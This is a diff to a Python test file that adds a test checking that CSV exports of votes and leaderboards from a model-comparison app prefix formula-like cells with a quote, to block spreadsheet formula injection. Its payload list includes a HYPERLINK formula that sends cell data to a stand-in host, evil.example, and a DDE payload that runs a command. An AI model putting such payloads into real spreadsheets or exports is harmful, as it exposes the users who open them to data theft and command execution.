@@ -4,6 +4,8 @@ migration. On SQLite and on a real PostgreSQL server; then the leaderboard from 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 from datetime import UTC, datetime, timedelta
@@ -14,6 +16,7 @@ from alembic.autogenerate import compare_metadata
 from alembic.runtime.migration import MigrationContext
 from sqlalchemy import Engine, inspect
 
+from app.compare.export import leaderboard_csv, safe_cell, votes_csv
 from app.compare.ratings import leaderboard
 from app.compare.results import TargetResult
 from app.compare.targets import Target
@@ -177,3 +180,29 @@ def test_upgrading_from_0004_adds_compare_votes_and_downgrading_removes_only_the
         assert store.list("alice") == []
     finally:
         engine.dispose()
+
+
+# ----- the export ----------------------------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_votes_exported_as_csv_never_start_a_cell_with_a_formula(store):
+    """Prompts, answers and labels are anyone's text: stored in the database, exported, each formula-like cell is
+    prefixed with a quote (OWASP), numbers (a negative rating too) stay numbers."""
+    hostile = [{"label": FORMULAS[3], "settings": {}}, {"label": FORMULAS[0], "settings": {}}]
+    for n, text in enumerate(FORMULAS):
+        save(store, minutes=n, targets=hostile, prompt=text, answers=[text, FORMULAS[-1 - n]])
+    rows = list(csv.DictReader(io.StringIO(votes_csv(store.list("alice")))))
+    assert len(rows) == len(FORMULAS)
+    cells = [value for row in rows for value in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert sorted(row["prompt"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    assert {row["winner"] for row in rows} == {"'@SUM(1,1)"}
+
+    board = leaderboard(store.outcomes())
+    exported = list(csv.DictReader(io.StringIO(leaderboard_csv(board))))
+    assert {row["label"] for row in exported} == {"'@SUM(1,1)", "'" + FORMULAS[0]}
+    assert all(float(row["rating"]) for row in exported)  # numbers stay numbers
+    assert (safe_cell("-0.5"), safe_cell(-3), safe_cell("-")) == ("-0.5", -3, "'-")
